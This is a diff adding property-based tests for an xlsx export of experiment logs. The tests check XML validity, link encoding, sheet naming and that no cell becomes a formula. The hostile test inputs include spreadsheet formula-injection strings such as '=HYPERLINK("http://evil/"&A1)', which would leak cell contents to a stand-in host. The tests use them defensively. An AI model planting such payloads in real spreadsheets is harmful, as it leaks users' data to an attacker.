@@ -1,0 +1,181 @@
+import test from 'ava';
+import fc from 'fast-check';
+import JSZip from 'jszip';
+import { SaxesParser } from 'saxes';
+import { cellText, cellTextLimit, sheetNames, shownText } from '../src/outputs/workbook/cell-text.js';
+import { parseXlsx, renderXlsx } from '../src/outputs/workbook/xlsx.js';
+import { renderWorkbook } from '../src/outputs/workbook.js';
+import { buildInput, buildOverview } from './build-overview.js';
+import { readWorkbook } from './workbook-root.js';
+
+const hostile = fc.oneof(
+  fc.string({ unit: 'binary', maxLength: 20 }),
+  fc.constantFrom(
+    '=HYPERLINK("http://x/"&A1)',
+    '+1',
+    '-2',
+    '@SUM(A1)',
+    '\tx',
+    '\ufffe\uffff',
+    '\ud800',
+    'a\u0000b\u001b[2Jc',
+    '_x0041_',
+    ' spaces ',
+    'two\r\nlines',
+    ']]>&<"',
+    '__proto__',
+  ),
+);
+
+/** The children of a worksheet in the order that the standard demands (ISO/IEC 29500, CT_Worksheet), those that may occur here. */
+const order = [
+  'sheetPr',
+  'dimension',
+  'sheetViews',
+  'sheetFormatPr',
+  'cols',
+  'sheetData',
+  'autoFilter',
+  'mergeCells',
+  'conditionalFormatting',
+  'dataValidations',
+  'hyperlinks',
+  'pageMargins',
+  'pageSetup',
+  'headerFooter',
+];
+
+/** Throws where a part is not well-formed XML; returns the children of each part's root. */
+async function strictlyParsed(bytes: Buffer): Promise<Map<string, string[]>> {
+  const archive = await JSZip.loadAsync(bytes, { checkCRC32: true });
+  const children = new Map<string, string[]>();
+  for (const [name, part] of Object.entries(archive.files)) {
+    if (part.dir) continue;
+    const parser = new SaxesParser({ xmlns: true, fileName: name });
+    const names: string[] = [];
+    let depth = 0;
+    parser.on('opentag', ({ local }) => {
+      if (++depth === 2) names.push(local);
+    });
+    parser.on('closetag', () => {
+      depth--;
+    });
+    parser.write(await part.async('string')).close();
+    children.set(name, names);
+  }
+  return children;
+}
+
+test('with anything in names, settings, notes and reasons, every part is strict XML, and texts come back as shown', async (t) => {
+  await fc.assert(
+    fc.asyncProperty(hostile, hostile, hostile, fc.double(), async (name, value, note, figure) => {
+      const experiment = buildOverview({
+        name,
+        key: `${name}/${value}.log`,
+        hyperparameters: { [name]: value, dpout: [value, value] },
+        finals: { val_dsc: figure, [name]: figure },
+        run: { status: 'failed', reason: value, jobId: note },
+        user: { notes: note, tags: [value], keep: note },
+      });
+      const bytes = await renderWorkbook(buildInput([experiment]));
+      await strictlyParsed(bytes);
+      const sheets = await parseXlsx(bytes);
+      const [header = [], row = []] = sheets.get('Experiments') ?? [];
+      t.is(row[header.indexOf('name')], shownText(name));
+      t.is(row[header.indexOf('Notes')], shownText(note));
+      t.is(row[header.indexOf('val_custom_metric')], String(Object.is(figure, -0) ? 0 : figure));
+      t.is(sheets.get('Problems')?.[1]?.[2], shownText(value));
+    }),
+    { numRuns: 60 },
+  );
+});
+
+test('no cell is a formula, whatever the logs say', async (t) => {
+  const formula = '=HYPERLINK("http://evil/"&A1)';
+  const experiment = buildOverview({
+    name: formula,
+    hyperparameters: { [formula]: formula },
+    user: { notes: formula },
+  });
+  const workbook = await readWorkbook(await renderWorkbook(buildInput([experiment])));
+  for (const sheet of workbook.worksheets) {
+    sheet.eachRow((row) => row.eachCell((cell) => t.falsy(cell.formula)));
+  }
+});
+
+test('links are relative, encoded, and lead to the outputs beside the log', async (t) => {
+  const key = 'experiments_2_nodes/lr=0.1,bs=64 #1%/run?.log';
+  const experiment = buildOverview({ key, finals: { val_dsc: 1 } });
+  const workbook = await readWorkbook(await renderWorkbook(buildInput([experiment])));
+  const links: string[] = [];
+  workbook.getWorksheet('Experiments')?.eachRow((row) => {
+    row.eachCell((cell) => {
+      if (cell.hyperlink) links.push(cell.hyperlink);
+    });
+  });
+  const start = 'experiments_2_nodes/lr%3D0.1%2Cbs%3D64%20%231%25/run%3F.tlw';
+  t.deepEqual(links, [`${start}.pdf`, `${start}.json`]);
+});
+
+test('the parts of a sheet stand in the order of the standard, with links and colours both', async (t) => {
+  const experiments = ['a', 'b', 'c'].map((name) =>
+    buildOverview({ name, key: `${name}/${name}.log`, finals: { val_dsc: 0.5 } }),
+  );
+  const parts = await strictlyParsed(await renderWorkbook(buildInput(experiments)));
+  const children = parts.get('xl/worksheets/sheet1.xml') ?? [];
+  t.true(children.includes('hyperlinks') && children.includes('conditionalFormatting'));
+  for (const [name, names] of parts) {
+    if (!name.startsWith('xl/worksheets/sheet')) continue;
+    const places = names.map((child) => order.indexOf(child));
+    t.deepEqual(
+      places,
+      [...places].sort((a, b) => a - b),
+      `${name}: ${names}`,
+    );
+    t.false(places.includes(-1), `${name}: ${names}`);
+  }
+});
+
+test('a text that is too long for a cell is cut, never in the middle of a character', (t) => {
+  fc.assert(
+    fc.property(fc.string({ unit: 'binary', maxLength: 10 }), fc.nat({ max: 20 }), (text, n) => {
+      const long = cellText(`${'x'.repeat(cellTextLimit - n)}${text}\u{1f600}_x0041_`);
+      t.true(long.length <= cellTextLimit);
+      t.false(/\p{Surrogate}/u.test(long));
+    }),
+  );
+});
+
+test('names of sheets are valid and differ, ignoring case', async (t) => {
+  await fc.assert(
+    fc.asyncProperty(
+      fc.array(fc.oneof(hostile, fc.constantFrom('History', "'q'", 'A/B', 'a:b', '', 'x'.repeat(40), 'X'.repeat(40)))),
+      async (names) => {
+        const safe = sheetNames(names);
+        t.is(new Set(safe.map((name) => name.toLowerCase())).size, names.length);
+        for (const name of safe) {
+          t.true(name.length > 0 && name.length <= 31, name);
+          t.notRegex(name, /[*?:\\/[\]\p{Surrogate}]|^'|'$|^history$/iu);
+        }
+        if (safe.length === 0) return;
+        const bytes = await renderXlsx(
+          names.map((name) => ({ name, columns: [{ header: 'a', width: 9 }], rows: [] })),
+          { title: 't', creator: 'c', changed: new Date(0) },
+        );
+        t.deepEqual([...(await parseXlsx(bytes)).keys()], safe);
+      },
+    ),
+    { numRuns: 30 },
+  );
+});
+
+test('the long sheets end in a sentence that says where the rest is', async (t) => {
+  const experiment = buildOverview();
+  const row = { segment: 1, epoch: 1, ranks: 1, seconds: 1, metrics: new Map() };
+  const epochsOf = function* () {
+    for (let n = 0; n < 100_001; n++) yield { ...row, epoch: n };
+  };
+  const sheets = await parseXlsx(await renderWorkbook(buildInput([experiment], { epochsOf })));
+  t.is(sheets.get('Epochs')?.length, 100_002);
+  t.regex(sheets.get('Epochs')?.at(-1)?.[0] ?? '', /tlw export --table epochs --format csv/);
+});
